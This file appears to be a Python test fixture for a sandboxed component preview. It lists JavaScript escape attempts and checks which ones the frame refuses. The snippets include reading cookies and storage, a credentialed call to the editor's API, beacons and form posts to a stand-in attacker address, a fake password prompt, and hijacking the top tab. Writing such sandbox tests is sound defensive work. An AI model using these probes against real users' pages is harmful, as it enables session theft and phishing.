"""What a component would try that had passed every gate, inside the preview's frame.

Each is the body of an async function in JavaScript. It throws where it is refused, and returns where it went through;
`THERE` is the address of the attacker, `HOME` that of the server the editor came from.
"""

_LOADED = """
const loads = (element) => new Promise((done, failed) => {
  element.onload = () => done("loaded");
  element.onerror = () => failed(new Error("not loaded"));
  document.head.append(element);
});
const make = (name, fields) => Object.assign(document.createElement(name), fields);
"""

EDITOR = {
    "reads the editor's page": "return parent.document.body.innerText;",
    "reads the address of the tab": "return top.location.href;",
    "takes the tab elsewhere": "top.location.href = THERE; return 1;",
    "calls a function of the editor": "return parent.eval('1');",
    "finds its own element in the editor": "if (frameElement === null) throw new Error('none'); return 1;",
    "reads the cookies": "return document.cookie;",
    "sets a cookie": "document.cookie = 'session=stolen'; return 1;",
    "reads local storage": "return localStorage.length;",
    "reads session storage": "return sessionStorage.length;",
    "opens a database": "return indexedDB.open('x').readyState;",
    "opens a cache": "return caches.open('x');",
    "widens its domain": "document.domain = location.hostname || 'localhost'; return 1;",
    "opens a window": "if (window.open(THERE) === null) throw new Error('null'); return 1;",
    "asks for the place": """return new Promise((done, failed) =>
        navigator.geolocation.getCurrentPosition(done, (why) => failed(new Error(why.message))));""",
    "fills the screen": "return document.documentElement.requestFullscreen();",
}
NETWORK = {
    "asks the API with the session of the editor": "return fetch(HOME + '/api/projects', {credentials: 'include'});",
    "posts to the API": "return fetch(HOME + '/api/projects', {method: 'POST', mode: 'no-cors', body: '{}'});",
    "fetches from elsewhere": "return fetch(THERE + 'fetch');",
    "asks the old way": """return new Promise((done, failed) => {
        const ask = new XMLHttpRequest(); ask.onload = done; ask.onerror = () => failed(new Error('no'));
        ask.open('GET', THERE + 'xhr'); ask.send(); });""",
    "opens a web socket": """return new Promise((done, failed) => {
        const socket = new WebSocket(THERE.replace('http', 'ws')); socket.onopen = done;
        socket.onerror = () => failed(new Error('no')); });""",
    "opens an event stream": """return new Promise((done, failed) => {
        const stream = new EventSource(THERE + 'stream'); stream.onopen = done;
        stream.onerror = () => { stream.close(); failed(new Error('no')); }; });""",
    "opens a peer connection": "return new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:9'}]});",
    "loads a picture from elsewhere": "return loads(make('img', {src: THERE + 'picture'}));",
    "loads a script from elsewhere": "return loads(make('script', {src: THERE + 'script'}));",
    "writes a script into the page": """window.wrote = 0;
        document.head.append(make('script', {textContent: 'wrote = 1'}));
        if (window.wrote === 0) throw new Error('did not run'); return 1;""",
    "loads a style from elsewhere": "return loads(make('link', {rel: 'stylesheet', href: THERE + 'style'}));",
    "imports a module from elsewhere": "return import(THERE + 'module.js');",
    "imports a module of the API": "return import(HOME + '/api/openapi.json');",
    "imports a module that it wrote as an address": "return import('data:text/javascript,export default 1');",
    "makes code from a string": "return new Function('return 1')();",
    "evaluates a string": "return (0, eval)('1');",
    "compiles a program": "return WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]));",
    "starts a worker": """return new Promise((done, failed) => {
        const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));
        worker.onmessage = done; worker.onerror = () => failed(new Error('no')); });""",
    "installs a service worker": "return navigator.serviceWorker.register(HOME + '/preview/vendor/frame.js');",
    "plays a sound from elsewhere": """return new Promise((done, failed) => {
        const sound = new Audio(THERE + 'sound'); sound.oncanplay = done;
        sound.onerror = () => failed(new Error('no')); sound.load(); });""",
    "loads a font from elsewhere": "return new FontFace('x', `url(${THERE}font)`).load();",
}
SILENT = {
    "sends a beacon": "navigator.sendBeacon(THERE + 'beacon', 'x');",
    "paints with a picture from elsewhere": """
        document.body.append(make('div', {style: `width:9px;height:9px;background:url(${THERE}paint)`}));""",
    "imports a style": "document.head.append(make('style', {textContent: `@import url(${THERE}import);`}));",
    "tells by a selector what it reads": """document.head.append(make('style', {
        textContent: `html { --a: url(${THERE}selector); background: var(--a) }`}));""",
    "fetches ahead": "document.head.append(make('link', {rel: 'prefetch', href: THERE + 'prefetch'}));",
    "loads a module ahead": "document.head.append(make('link', {rel: 'modulepreload', href: THERE + 'ahead'}));",
    "opens a frame": "document.body.append(make('iframe', {src: THERE + 'frame'}));",
    "opens an object": "document.body.append(make('object', {data: THERE + 'object'}));",
    "sends a form": """const form = make('form', {action: THERE + 'form', method: 'post'});
        document.body.append(form); form.submit();""",
    "follows a link in the tab": "make('a', {href: THERE + 'link', target: '_top'}).click();",
    "saves a file": "make('a', {href: 'data:,x', download: 'x.exe'}).click();",
    "pings": "const link = make('a', {href: '#', ping: THERE + 'ping'}); document.body.append(link); link.click();",
    "shows a dialog": "alert('your session ended'); prompt('password');",
    "moves where addresses start": """document.head.append(make('base', {href: THERE}));
        document.body.append(make('img', {src: 'based'}));""",
}
LEAVING = {
    "walks elsewhere": "location.href = THERE + 'walk';",
    "walks to a page of ours": "location.href = HOME + '/';",
    "walks to a page of its own": "location.href = 'data:text/html,<p>walked</p>';",
    "is refreshed elsewhere": """document.head.append(Object.assign(document.createElement('meta'),
        {httpEquiv: 'refresh', content: '0; url=' + THERE + 'refresh'}));""",
}


HEARD_WITHOUT_A_FRAME = {
    "sends a beacon": "/beacon",
    "paints with a picture from elsewhere": "/paint",
    "imports a style": "/import",
    "tells by a selector what it reads": "/selector",
    "fetches ahead": "/prefetch",
    "loads a module ahead": "/ahead",
    "opens a frame": "/frame",
    "opens an object": "/object",
    "moves where addresses start": "/based",
}


def unguarded(there: str) -> str:
    """The silent attempts as a function for a page that nothing guards."""
    attempts = "\n".join(SILENT[name] for name in HEARD_WITHOUT_A_FRAME)
    return f"() => {{ const THERE = {there!r}, HOME = THERE; {_LOADED} {attempts} }}"


def component(there: str, home: str) -> str:
    """A module that tries all that does not leave the frame, and keeps in `met` what each attempt met."""
    attempts = ",\n".join(
        f"{name!r}: async () => {{ {body} }}" for name, body in {**EDITOR, **NETWORK, **SILENT}.items()
    )
    return f"""
const THERE = {there!r}, HOME = {home!r};
{_LOADED}
const attempts = {{ {attempts} }};
globalThis.met = {{}};
const patience = () => new Promise((_, failed) => setTimeout(() => failed(new Error("no answer")), 3000));
globalThis.tried = Promise.all(Object.entries(attempts).map(async ([name, attempt]) => {{
  try {{ await Promise.race([attempt(), patience()]); globalThis.met[name] = "went through"; }}
  catch (error) {{ globalThis.met[name] = `${{error?.name}}: ${{error?.message}}`; }}
}}));
export default function Scene() {{ return null; }}
"""
